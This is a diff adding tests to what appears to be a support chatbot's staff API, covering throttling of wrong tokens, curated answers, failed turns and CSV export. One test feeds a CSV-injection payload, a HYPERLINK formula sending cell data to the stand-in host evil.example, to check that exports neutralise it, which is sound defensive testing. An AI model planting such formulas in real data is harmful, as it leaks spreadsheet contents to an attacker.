@@ -16,6 +16,7 @@ from app.config import Settings
 from app.staff.auth import create_token, revoke_token
 from app.store.db import make_engine, make_sessionmaker
 from app.store.models import Conversation, Touchpoint
+from app.store.service import ExchangeRecord, record_exchange
 
 
 def make_tokens(data_dir) -> dict[str, str]:
@@ -69,6 +70,21 @@ def test_every_staff_endpoint_needs_a_valid_token(staff):
             assert response.status_code == 401, (method, path, token, response.text)
             assert response.headers["www-authenticate"] == "Bearer"
     assert api(server, tokens["viewer"], "GET", "/me").json() == {"name": "viewer@lumio.example", "role": "viewer"}
+
+
+def test_wrong_staff_tokens_are_throttled_per_address(make_data_dir):
+    data_dir = make_data_dir()
+    tokens = make_tokens(data_dir)
+    server = Server(data_dir, JOURNEY_STAFF_AUTH_LIMIT="3/60")
+    try:
+        assert api(server, tokens["viewer"], "GET", "/me").status_code == 200
+        for n in range(3):
+            assert api(server, f"jgs_guess-{n}", "GET", "/me").status_code == 401
+        for token in ("jgs_guess-4", tokens["viewer"]):  # no token is checked from this address for a while
+            refused = api(server, token, "GET", "/me")
+            assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1, refused.text
+    finally:
+        server.stop()
 
 
 def test_roles_limit_actions(staff):
@@ -227,6 +243,22 @@ def test_curated_answer_is_used_for_close_questions(staff):
     assert chat(server, "do you have a discount for students")["mode"] == "offline"
 
 
+def test_questions_answered_by_a_curated_answer_leave_the_knowledge_gaps(staff):
+    server, tokens = staff
+    question = "Do you sponsor local chess tournaments for kids?"
+    chat(server, question)
+
+    def gap_questions() -> set[str]:
+        groups = api(server, tokens["viewer"], "GET", "/analytics/gaps").json()["groups"]
+        return {q for g in groups for q in g["examples"]}
+
+    assert question in gap_questions(), "an unanswered question is a gap"
+    answer = {"question": question, "answer": "Yes: ask sales about our chess sponsorship. [staff]"}
+    assert api(server, tokens["editor"], "POST", "/answers", json=answer).status_code == 201
+    assert chat(server, "do you sponsor local chess tournaments for kids")["mode"] == "curated"
+    assert not {q for q in gap_questions() if "chess" in q.lower()}, "staff answered it: no longer a gap"
+
+
 def test_export_streams_filtered_csv_and_jsonl(staff):
     server, tokens = staff
     turn = chat(server, "How much is Business for 40 staff?")
@@ -246,6 +278,70 @@ def test_export_streams_filtered_csv_and_jsonl(staff):
     mine = [r for r in table if r["id"] == turn["message_id"]][0]
     assert mine["question"] == "How much is Business for 40 staff?" and json.loads(mine["sources"])
     assert api(server, tokens["editor"], "GET", "/export", params={"format": "xml"}).status_code == 422
+
+
+def test_csv_export_neutralises_formula_cells(staff):
+    server, tokens = staff
+    message = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    turn = chat(server, message, visitor_id="-23-formula-visitor")
+    table = list(csv.DictReader(io.StringIO(api(server, tokens["editor"], "GET", "/export?format=csv").text)))
+    mine = [r for r in table if r["id"] == turn["message_id"]][0]
+    assert mine["question"] == "'" + message and mine["visitor_id"] == "'-23-formula-visitor"
+    lines = api(server, tokens["editor"], "GET", "/export?format=jsonl").text.splitlines()
+    assert [json.loads(x) for x in lines if turn["message_id"] in x][0]["question"] == message, "JSON lines unchanged"
+
+
+def _failed_turn(data_dir, *, message_id, conversation_id, visitor_id, question, at) -> None:
+    """Store a turn as /v1/chat records one that failed (knowledge base unreadable): no stage, no sources."""
+    engine = make_engine(Settings(data_dir=data_dir))
+    failed = ExchangeRecord(
+        id=message_id,
+        conversation_id=conversation_id,
+        visitor_id=visitor_id,
+        question=question,
+        reply="",
+        stage={},
+        sources=None,
+        suggestions=[],
+        page=None,
+        identity=None,
+        retrieval_score=None,
+        mode="offline",
+        model=None,
+        latency_ms=5,
+        outcome="server_error",
+        error="InternalError: Error finding id",
+        created_at=at,
+    )
+    with make_sessionmaker(engine)() as session:
+        record_exchange(session=session, record=failed)
+    engine.dispose()
+
+
+def test_staff_views_tolerate_failed_turns_without_stage_or_sources(staff):
+    server, tokens = staff
+    first = chat(server, "How much does the pro plan cost?")
+    now = datetime.now(UTC)
+    ids = {"conversation_id": first["conversation_id"], "visitor_id": first["visitor_id"]}
+    _failed_turn(server.data_dir, message_id="failed-turn-0001", question="and for 40 staff?", at=now, **ids)
+    chat(server, "and what about yearly billing?", **ids)
+    alone = {"conversation_id": "failed-only-0001", "visitor_id": "failed-visitor-01"}
+    _failed_turn(server.data_dir, message_id="failed-turn-0002", question="hello?", at=now, **alone)
+
+    analytics = api(server, tokens["viewer"], "GET", "/analytics")
+    assert analytics.status_code == 200, analytics.text
+    assert all(t["stage"] for t in analytics.json()["time_in_stage"])
+    assert api(server, tokens["viewer"], "GET", "/analytics/gaps").status_code == 200
+    listed = api(server, tokens["viewer"], "GET", "/conversations", params={"limit": 200})
+    assert {c["id"]: c["stage"] for c in listed.json()["items"]}["failed-only-0001"] is None
+    for conversation_id in (first["conversation_id"], "failed-only-0001"):
+        transcript = api(server, tokens["viewer"], "GET", f"/conversations/{conversation_id}")
+        assert transcript.status_code == 200, transcript.text
+        failed = [t for t in transcript.json()["turns"] if t["outcome"] == "server_error"][0]
+        assert failed["stage"]["name"] is None and failed["sources"] == []
+    for fmt in ("csv", "jsonl"):
+        exported = api(server, tokens["editor"], "GET", "/export", params={"format": fmt})
+        assert exported.status_code == 200 and "failed-turn-0002" in exported.text
 
 
 def test_erasure_removes_every_trace(staff):
